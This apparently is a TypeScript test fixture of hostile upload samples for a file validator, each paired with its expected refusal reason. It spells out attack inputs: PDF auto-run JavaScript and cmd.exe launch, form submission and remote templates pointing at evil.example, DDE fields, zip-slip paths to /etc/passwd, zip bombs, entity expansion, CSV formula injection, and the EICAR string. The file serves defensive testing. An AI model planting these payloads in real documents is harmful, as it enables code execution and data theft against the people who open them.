import sharp from 'sharp'
import type { FileReason } from '@/lib/files/work/refused'
import { adoc, docx, packedObjects, pdf, pngOfSize, relation, zip } from './made-files'

/** What it is, under which name and with which bytes it comes, and why it is refused. */
export type Hostile = [what: string, name: string, bytes: Buffer, reason: FileReason]

const picture = sharp({ create: { width: 40, height: 30, channels: 3, background: '#1f5c3d' } })
const jpeg = await picture.clone().jpeg().toBuffer()
const png = await picture.clone().png().toBuffer()
const webp = await picture.clone().webp().toBuffer()
const avif = await picture.clone().avif().toBuffer()
const gif = await picture.clone().gif().toBuffer()
const tiff = await picture.clone().tiff().toBuffer()

const zeros = (size: number) => Buffer.alloc(size)
const bomb = { name: 'word/media/image1.xml', data: zeros(140_000_000) }
const xml = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
const document = (inner: string) =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inner}</w:p></w:body></w:document>`
const javascript = '<< /S /JavaScript /JS (app.alert(1)) >>'

const pdfs: Hostile[] = [
  ['a PDF that runs JavaScript when opened', 'a.pdf', pdf({ catalog: `/OpenAction ${javascript}` }), 'fileActive'],
  [
    'a PDF whose names hold JavaScript',
    'a.pdf',
    pdf({ catalog: `/Names << /JavaScript << /Names [(a) ${javascript}] >> >>` }),
    'fileActive',
  ],
  [
    'a PDF whose JavaScript is spelt with escapes',
    'a.pdf',
    pdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (1) >>' }),
    'fileActive',
  ],
  ['a PDF whose page runs JavaScript', 'a.pdf', pdf({ page: `/AA << /O ${javascript} >>` }), 'fileActive'],
  [
    'a PDF whose JavaScript is in packed objects',
    'a.pdf',
    pdf({ objects: [packedObjects(`9 0 ${javascript}`)] }),
    'fileActive',
  ],
  ['a PDF that starts a program', 'a.pdf', pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'fileActive'],
  ['a PDF with a file in it', 'a.pdf', pdf({ catalog: '/Names << /EmbeddedFiles << /Names [] >> >>' }), 'fileActive'],
  [
    'a PDF that leads to a file in another',
    'a.pdf',
    pdf({ page: '/Annots [<< /Subtype /Link /A << /S /GoToE >> >>]' }),
    'fileActive',
  ],
  ['a PDF with an XFA form', 'a.pdf', pdf({ catalog: '/AcroForm << /XFA (x) >>' }), 'fileActive'],
  [
    'a PDF that sends a form',
    'a.pdf',
    pdf({ page: '/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>' }),
    'fileActive',
  ],
  ['a PDF that fetches data', 'a.pdf', pdf({ page: '/AA << /O << /S /ImportData /F (x) >> >>' }), 'fileActive'],
  ['a PDF with rich media', 'a.pdf', pdf({ page: '/Annots [<< /Subtype /RichMedia >>]' }), 'fileActive'],
  ['a PDF with a film', 'a.pdf', pdf({ page: '/Annots [<< /Subtype /Movie >>]' }), 'fileActive'],
  [
    'a PDF locked by a password',
    'a.pdf',
    pdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 >>' }),
    'fileEncrypted',
  ],
  [
    'a PDF with a ZIP behind it',
    'a.pdf',
    Buffer.concat([pdf(), zip([{ name: 'a.exe', data: 'MZ' }])]),
    'fileHidesAnother',
  ],
  ['a PDF with a page of HTML behind it', 'a.pdf', pdf({ tail: '\n<script>alert(1)</script>' }), 'fileHidesAnother'],
  [
    'a page of HTML before a PDF',
    'a.pdf',
    Buffer.concat([Buffer.from('<html><script>alert(1)</script>'), pdf()]),
    'fileTypeRefused',
  ],
  ['a PDF that is only its mark', 'a.pdf', Buffer.from('%PDF-1.7\n'), 'fileDamaged'],
  ['a PDF without an end', 'a.pdf', pdf().subarray(0, 150), 'fileDamaged'],
  [
    'a PDF whose packed objects are a bomb',
    'a.pdf',
    pdf({ objects: [packedObjects('0'.repeat(70_000_000))] }),
    'fileExpands',
  ],
  [
    'a PDF whose packed objects are no such',
    'a.pdf',
    pdf({ objects: ['<< /Type /ObjStm /Length 4 >>\nstream\nxxxx\nendstream'] }),
    'fileDamaged',
  ],
  [
    'a PDF without pages',
    'a.pdf',
    Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF'),
    'fileDamaged',
  ],
  ['a PDF whose stream never ends', 'a.pdf', pdf({ objects: ['<< /Length 9 >>\nstream\nabc'] }), 'fileDamaged'],
  ['a PDF of a version there is not', 'a.pdf', pdf({ head: '%PDF-9.9\n' }), 'fileHidesAnother'],
]

const archives: Hostile[] = [
  ['a text document that is a bomb', 'a.docx', docx([bomb]), 'fileExpands'],
  [
    'a bomb of many parts',
    'a.docx',
    docx(Array.from({ length: 40 }, (_, n) => ({ name: `word/${n}.xml`, data: zeros(4_000_000) }))),
    'fileExpands',
  ],
  [
    'more parts than any document has',
    'a.docx',
    docx(Array.from({ length: 2_100 }, (_, n) => ({ name: `word/${n}.xml`, data: '1' }))),
    'fileExpands',
  ],
  [
    'a part that is larger than it says',
    'a.docx',
    docx([{ name: 'word/a.xml', data: 'x'.repeat(90_000), size: 10 }]),
    'fileDamaged',
  ],
  [
    'a part that is smaller than it says',
    'a.docx',
    docx([{ name: 'word/a.xml', data: 'x', size: 900 }]),
    'fileDamaged',
  ],
  ['a part that leads out', 'a.docx', docx([{ name: '../../etc/passwd', data: 'x' }]), 'fileDamaged'],
  ['a part with an absolute path', 'a.docx', docx([{ name: '/etc/passwd', data: 'x' }]), 'fileDamaged'],
  ['a part with a path of Windows', 'a.docx', docx([{ name: 'C:\\Windows\\a.xml', data: 'x' }]), 'fileDamaged'],
  ['a part with a path turned round', 'a.docx', docx([{ name: 'word\\..\\..\\a.xml', data: 'x' }]), 'fileDamaged'],
  ['a part with a NUL in its name', 'a.docx', docx([{ name: 'word/a.xml\0.png', data: 'x' }]), 'fileHidesAnother'],
  [
    'a part that is a link',
    'a.docx',
    docx([{ name: 'word/a.xml', data: '/etc/passwd', attributes: 0o120777 * 65_536 }]),
    'fileHidesAnother',
  ],
  [
    'a part that is there twice',
    'a.docx',
    docx([
      { name: 'word/a.xml', data: 'x' },
      { name: 'word/a.xml', data: 'y' },
    ]),
    'fileHidesAnother',
  ],
  [
    'a part that is there twice but for capitals',
    'a.docx',
    docx([
      { name: 'word/a.xml', data: 'x' },
      { name: 'WORD/A.XML', data: 'y' },
    ]),
    'fileHidesAnother',
  ],
  [
    'parts that lie over one another',
    'a.docx',
    docx([{ name: 'word/a.xml', data: 'x'.repeat(500), at: 10 }]),
    'fileExpands',
  ],
  ['a locked part', 'a.docx', docx([{ name: 'word/a.xml', data: 'x', flags: 1 }]), 'fileEncrypted'],
  [
    'a part packed in a way nobody reads',
    'a.docx',
    docx([{ name: 'word/a.xml', data: 'x', method: 14 }]),
    'fileDamaged',
  ],
  [
    'a directory that counts wrongly',
    'a.docx',
    zip([{ name: 'word/document.xml', data: 'x' }], { count: 9 }),
    'fileDamaged',
  ],
  [
    'a comment behind the archive',
    'a.docx',
    zip([{ name: 'word/document.xml', data: 'x' }], { comment: '<script>' }),
    'fileHidesAnother',
  ],
  ['half an archive', 'a.docx', docx().subarray(0, 300), 'fileDamaged'],
  ['an archive without a document', 'a.docx', zip([{ name: 'a.txt', data: 'x' }]), 'fileTypeRefused'],
  ['an archive within an archive', 'a.docx', zip([{ name: 'a.zip', data: zip([bomb]) }]), 'fileTypeRefused'],
  [
    'a program for Java',
    'a.docx',
    zip([
      { name: 'META-INF/MANIFEST.MF', data: 'x' },
      { name: 'A.class', data: 'x' },
    ]),
    'fileTypeRefused',
  ],
]

const documents: Hostile[] = [
  [
    'a text document with macros under another ending',
    'a.docx',
    docx([{ name: 'word/vbaProject.bin', data: 'x' }]),
    'fileActive',
  ],
  [
    'a text document that says it has macros',
    'a.docx',
    docx([], { type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    'fileActive',
  ],
  ['a text document with ActiveX', 'a.docx', docx([{ name: 'word/activeX/activeX1.xml', data: '<x/>' }]), 'fileActive'],
  [
    'a text document with an embedded object',
    'a.docx',
    docx([{ name: 'word/embeddings/oleObject1.bin', data: 'x' }]),
    'fileActive',
  ],
  [
    'a text document with a page of HTML in it',
    'a.docx',
    docx([{ name: 'word/afchunk.html', data: '<b>' }]),
    'fileActive',
  ],
  [
    'a text document with a template from outside',
    'a.docx',
    docx([relation('attachedTemplate', 'http://evil.example/a.dotm')]),
    'fileActive',
  ],
  [
    'a text document with a picture from outside',
    'a.docx',
    docx([relation('image', 'file:///etc/passwd')]),
    'fileActive',
  ],
  [
    'a text document with an object from outside',
    'a.docx',
    docx([relation('oleObject', 'http://evil.example/a')]),
    'fileActive',
  ],
  [
    'a text document with a frame from outside',
    'a.docx',
    docx([relation('frame', 'http://evil.example/a')]),
    'fileActive',
  ],
  [
    'a text document with a link that runs',
    'a.docx',
    docx([relation('hyperlink', 'javascript:alert(1)')]),
    'fileActive',
  ],
  [
    'a text document with a link to a file',
    'a.docx',
    docx([relation('hyperlink', 'file://server/share')]),
    'fileActive',
  ],
  [
    'a text document whose XML declares entities',
    'a.docx',
    docx([{ name: 'word/styles.xml', data: xml }]),
    'fileActive',
  ],
  ['a text document whose own part declares entities', 'a.docx', docx([], { main: xml }), 'fileActive'],
  [
    'a text document whose XML is in UTF-16',
    'a.docx',
    docx([{ name: 'word/styles.xml', data: Buffer.from(`\uFEFF${xml}`, 'utf16le') }]),
    'fileDamaged',
  ],
  [
    'a text document that asks another program',
    'a.docx',
    docx([], { main: document('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>') }),
    'fileActive',
  ],
  [
    'a text document whose field is cut into runs',
    'a.docx',
    docx([], { main: document('<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>') }),
    'fileActive',
  ],
  [
    'a text document that takes in another file',
    'a.docx',
    docx([], { main: document('<w:instrText>INCLUDETEXT "http://evil.example"</w:instrText>') }),
    'fileActive',
  ],
  ['a signed container with a program', 'a.adoc', adoc([{ name: 'a.exe', data: 'MZ' }]), 'fileActive'],
  ['a signed container with a page of HTML', 'a.adoc', adoc([{ name: 'a.html', data: '<script>' }]), 'fileActive'],
  [
    'a signed container with an archive',
    'a.adoc',
    adoc([{ name: 'a.zip', data: zip([{ name: 'a.exe', data: 'MZ' }]) }]),
    'fileActive',
  ],
  ['a signed container with entities', 'a.adoc', adoc([{ name: 'metadata.xml', data: xml }]), 'fileActive'],
  ['a signed container without a signature', 'a.adoc', adoc([], { signed: false }), 'fileDamaged'],
  ['a container of another type', 'a.adoc', adoc([], { type: 'application/epub+zip' }), 'fileTypeRefused'],
]

const pictures: Hostile[] = [
  ['a picture of a thousand million pixels', 'a.png', pngOfSize(30_000, 30_000), 'fileExpands'],
  ['a picture that is one long line', 'a.png', pngOfSize(2_000_000_000, 1), 'fileDamaged'],
  ['a picture of no size', 'a.png', pngOfSize(0, 0), 'fileDamaged'],
  ['half a picture', 'a.jpg', jpeg.subarray(0, jpeg.length / 2), 'fileDamaged'],
  ['half a PNG', 'a.png', png.subarray(0, png.length - 20), 'fileDamaged'],
  ['half a WebP', 'a.webp', webp.subarray(0, webp.length / 2), 'fileDamaged'],
  ['a picture in AVIF', 'a.avif', avif, 'fileTypeRefused'],
  ['a picture in AVIF that says it is a JPEG', 'a.jpg', avif, 'fileTypeRefused'],
  ['a picture in GIF', 'a.gif', gif, 'fileTypeRefused'],
  ['a picture in TIFF', 'a.tiff', tiff, 'fileTypeRefused'],
  [
    'a drawing that runs scripts',
    'a.svg',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    'fileTypeRefused',
  ],
  [
    'a drawing that says it is a PNG',
    'a.png',
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'),
    'fileTypeRefused',
  ],
]

const others: Hostile[] = [
  ['nothing', 'a.pdf', Buffer.alloc(0), 'fileEmpty'],
  ['more than a file may have', 'a.pdf', Buffer.concat([pdf(), Buffer.alloc(20_000_000)]), 'fileTooLarge'],
  ['a PDF that says it is a picture', 'a.png', pdf(), 'fileNotAsNamed'],
  ['a picture that says it is a PDF', 'a.pdf', png, 'fileNotAsNamed'],
  ['a picture that says it is another', 'a.jpg', png, 'fileNotAsNamed'],
  ['a text document that says it is a PDF', 'a.pdf', docx(), 'fileNotAsNamed'],
  ['a PDF that says it is a program', 'a.exe', pdf(), 'fileNotAsNamed'],
  ['a PDF whose name ends as a page', 'a.pdf.html', pdf(), 'fileNotAsNamed'],
  ['a PDF without an ending', 'pdf', pdf(), 'fileNotAsNamed'],
  ['a program', 'a.pdf', Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), 'fileTypeRefused'],
  ['a program of Linux', 'a.pdf', Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), 'fileTypeRefused'],
  ['a page', 'a.html', Buffer.from('<!doctype html><script>alert(1)</script>'), 'fileTypeRefused'],
  ['a page that says it is a PDF', 'a.pdf', Buffer.from('<!doctype html><script>alert(1)</script>'), 'fileTypeRefused'],
  ['a script', 'a.js', Buffer.from('alert(1)'), 'fileTypeRefused'],
  ['a table of formulas', 'a.csv', Buffer.from('=cmd|/c calc!A1'), 'fileTypeRefused'],
  ['a text document of the old kind', 'a.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'fileTypeRefused'],
  ['an archive of another kind', 'a.rar', Buffer.from('Rar!\x1a\x07\0', 'latin1'), 'fileTypeRefused'],
  [
    'the test of virus scanners',
    'a.pdf',
    Buffer.from(['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')),
    'fileTypeRefused',
  ],
]

export const hostile: Hostile[] = [...pdfs, ...archives, ...documents, ...pictures, ...others]
